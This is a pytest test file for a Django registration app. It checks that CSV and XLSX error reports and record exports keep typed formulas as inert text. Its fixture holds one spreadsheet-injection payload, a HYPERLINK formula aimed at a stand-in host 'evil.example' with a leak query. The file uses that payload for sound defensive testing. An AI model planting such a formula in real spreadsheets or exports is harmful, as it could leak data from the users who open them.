"""Every CSV and XLSX the registration app writes keeps a typed value as text: a rejected cell or a
street that reads ``=HYPERLINK(...)`` is never a live formula in Excel (OWASP CSV injection)."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from registration.models import ImportBatch, RegistrationRecord
from registration.services import import_batch_submit
from registration.tests.conftest import csv_file, valid_row

FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'


@pytest.fixture
def staff_client(client, staff_user):
    client.force_login(staff_user)
    client.cookies["django_language"] = "en"
    return client


@pytest.fixture
def rejected(staff_user):
    batch = import_batch_submit(content=csv_file([valid_row(sex=FORMULA)]), file_name="evil.csv", by=staff_user)
    assert batch.status == ImportBatch.Status.REJECTED
    assert batch.errors[0][2] == FORMULA  # the value as the file had it
    return batch


def test_the_error_report_keeps_a_rejected_formula_as_text(staff_client, rejected):
    url = reverse("admin:registration_importbatch_report", args=[rejected.pk, "csv"])
    rows = list(csv.reader(io.StringIO(staff_client.get(url).content.decode("utf-8-sig")), delimiter=";"))
    xlsx = staff_client.get(reverse("admin:registration_importbatch_report", args=[rejected.pk, "xlsx"]))
    cell = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]["C2"]

    assert rows[1][2] == "'" + FORMULA  # an apostrophe: the spreadsheet shows it as text
    assert (cell.value, cell.data_type) == (FORMULA, "s")  # a string cell, not a formula


def test_the_command_s_error_report_keeps_it_as_text_too(staff_user, tmp_path):
    source, report = tmp_path / "evil.csv", tmp_path / "report.csv"
    source.write_bytes(csv_file([valid_row(sex=FORMULA)]))

    with pytest.raises(Exception, match="nothing imported"):
        call_command("import_registrations", str(source), "--by", staff_user.username, "--report", str(report))

    rows = list(csv.reader(io.StringIO(report.read_text("utf-8-sig")), delimiter=";"))
    assert rows[1][2] == "'" + FORMULA


def test_a_record_export_keeps_a_formula_typed_in_a_record_as_text(staff_client, staff_user):
    import_batch_submit(content=csv_file([valid_row()]), file_name="one.csv", by=staff_user)
    record = RegistrationRecord.objects.get()
    RegistrationRecord.objects.filter(pk=record.pk).update(street=FORMULA, flat="-1")

    response = staff_client.post(
        "/admin/registration/registrationrecord/", {"action": "export_selected_csv", "_selected_action": [record.pk]}
    )
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(body), delimiter=";"))

    assert row[header.index("street")] == "'" + FORMULA
    assert row[header.index("flat")] == "'-1"
    assert row[header.index("record №")] == str(record.pk)
